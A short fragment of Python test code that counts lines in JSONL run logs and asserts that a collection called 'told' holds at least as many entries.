    lines = sum(len(log.read_bytes().splitlines()) for log in (results / "runs").glob("*.jsonl"))
    assert lines > 0
    assert len(told) >= lines
